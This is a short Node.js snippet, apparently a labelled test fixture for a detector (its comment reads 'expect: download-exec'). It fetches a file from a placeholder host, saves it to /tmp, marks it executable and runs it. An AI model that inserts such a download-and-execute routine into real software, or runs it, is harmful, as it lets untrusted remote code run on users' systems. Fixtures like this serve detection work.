// Download a binary, write it, make it executable, run it.
const https = require("https");
const fs = require("fs");
const { execFileSync } = require("child_process");
https.get("https://example.com/tool", (res) => {
  res.pipe(fs.createWriteStream("/tmp/tool"));
  res.on("end", () => {
    fs.chmodSync("/tmp/tool", 0o755);
    execFileSync("/tmp/tool"); // expect: download-exec
  });
});
